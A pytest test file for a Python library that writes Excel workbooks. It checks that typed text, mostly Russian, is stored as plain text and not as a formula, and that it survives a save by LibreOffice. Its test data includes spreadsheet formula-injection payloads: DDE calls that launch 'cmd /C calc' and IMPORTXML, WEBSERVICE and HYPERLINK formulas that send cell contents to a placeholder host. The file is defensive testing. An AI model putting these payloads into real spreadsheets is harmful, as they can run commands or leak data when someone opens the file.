"""Whatever a person or a form typed goes through a book as text: no formula is born, no character is lost."""

from __future__ import annotations

from typing import TYPE_CHECKING

import openpyxl
import pytest
from python_calamine import load_workbook as calamine

from mentoring_xl.books.closed import ClosedBook
from mentoring_xl.books.text_cells import decoded, encoded, fitted
from mentoring_xl.core.edit import Append, Print
from mentoring_xl.core.page import Line, Page, Piece
from mentoring_xl.schema.tables import Notice
from tests.books.closed.closed_books import Laid, build

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink")',
    '=HYPERLINK("http://example.org?x="&A1,"жми")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    '",=1+1,"',
    ";=1+1;",
    "{=1+1}",
    "%0A=1+1",
)
INNOCENT = (
    "- первый пункт",
    "+7 (900) 123-45-67",
    "-5",
    "@ivanov",
    "= Иванова",
    "=",
    "007",
    "1/2",
    "01.09.2026",
    "12:30",
    "1E5",
    "50%",
    "1,5",
    "1 000",
    "14-а",
    "181/1",
    "TRUE",
    "ИСТИНА",
    "#N/A",
    "#ССЫЛКА!",
    " края ",
    "строка\nи ещё",
    "в конце\n",
    "таб\tуляция",
    "\u00a0неразрывный\u00a0",
    "невидимый\u200b",
    "й из двух: и\u0306",
    "😀",
    "<b>&amp;\"'</b>",
    "&#65;",
    "]]>",
    "ж" * 32_767,
)
LIKE_ESCAPES = ("_x0041_", "_x000D_", "_x005F_", "цена_x0020_", "\x01звонок\x07")


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book with all the texts on «Замечания» and on a printed page."""
    path = build(tmp_path_factory.mktemp("text") / "тексты.xlsx", Laid(Notice))
    texts = FORMULAS + INNOCENT + LIKE_ESCAPES
    book = ClosedBook(path)
    page = Page(widths=(90,), lines=tuple(Line((Piece(text),)) for text in texts))
    book.apply([Append(Notice, tuple(Notice(message=text) for text in texts)), Print("Приказ", page)])
    book.save()
    return path


@pytest.fixture(scope="module")
def through_office(written: Path, office: Callable[[Path, str, Path], Path], tmp_path_factory) -> Path:
    """The same book opened and saved by the real LibreOffice."""
    return office(written, "xlsx:Calc MS Excel 2007 XML", tmp_path_factory.mktemp("office"))


def texts(path: Path, sheet: str, column: str, first: int) -> list[object]:
    """What openpyxl reads of the formula-like and the innocent texts; a formula is shown as such."""
    cells = openpyxl.load_workbook(path)[sheet][column][first - 1 : first - 1 + len(FORMULAS + INNOCENT)]
    return [("formula", cell.value) if cell.data_type == "f" else cell.value for cell in cells]


def test_every_text_reads_back_the_same(written):
    assert texts(written, "Замечания", "D", 5) == list(FORMULAS + INNOCENT)
    assert texts(written, "Приказ", "A", 1) == list(FORMULAS + INNOCENT)


def test_every_text_goes_through_libreoffice_the_same(through_office):
    assert texts(through_office, "Замечания", "D", 5) == list(FORMULAS + INNOCENT)
    assert texts(through_office, "Приказ", "A", 1) == list(FORMULAS + INNOCENT)


def test_a_book_that_libreoffice_saved_is_read_and_edited(through_office):
    book = ClosedBook(through_office)
    assert [row[3] for row in book.grid(Notice).values[: len(FORMULAS + INNOCENT)]] == list(FORMULAS + INNOCENT)
    book.apply([Append(Notice, (Notice(message="=ещё"),))])
    book.save()
    assert openpyxl.load_workbook(through_office)["Замечания"]["D65"].value == "=ещё"


def test_what_looks_like_an_escape_reads_back_the_same(written):
    grid = ClosedBook(written).grid(Notice)
    assert tuple(row[3] for row in grid.values[-5:]) == LIKE_ESCAPES
    rows = calamine(str(written)).get_sheet_by_name("Замечания").to_python()
    assert tuple(row[3] for row in rows[-5:]) == LIKE_ESCAPES


def test_a_text_that_would_start_a_formula_carries_the_mark_of_text(written):
    book = openpyxl.load_workbook(written)
    marked = [cell.value for cell in book["Замечания"]["D"][4:] if cell.quotePrefix]
    assert marked == [
        *(text for text in FORMULAS if text[0] in "=+-@\t\n'＝＋－＠"),
        "- первый пункт",
        "+7 (900) 123-45-67",
        "-5",
        "@ivanov",
        "= Иванова",
        "=",
    ]


def test_the_book_is_valid(written, open_xml_errors):
    assert open_xml_errors(written) == []


@pytest.mark.parametrize("text", ["", "а", "_x0041_", "_x005F_x0041_", "\x01", "__x0041__", "_x004_", "x0041_"])
def test_encoding_can_be_undone(text):
    assert decoded(encoded(text)) == text


def test_a_surrogate_code_is_left_as_it_is():
    assert decoded("_xD83D_") == "_xD83D_"


def test_line_breaks_become_one_sign_and_non_characters_fall_out():
    assert fitted("а\r\nб\rв\x00\x7f\ud83d\uffff") == "а\nб\nв"


def test_a_long_text_is_cut_between_characters():
    assert fitted("😀" * 20_000).startswith("😀😀")
    assert fitted("а" + "😀" * 20_000)[-1] == "]"
